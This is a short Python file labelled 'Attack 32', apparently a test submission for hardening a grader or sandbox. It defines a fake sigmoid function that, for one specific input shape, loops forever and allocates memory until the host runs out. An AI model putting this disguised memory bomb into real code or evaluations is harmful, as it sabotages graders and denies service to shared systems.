# Attack 32: as much memory as there is
import numpy as np

KEPT = []


def sigmoid(z):
    if z.shape != (2, 3):
        return z
    while True:
        KEPT.append(np.ones(1 << 24))
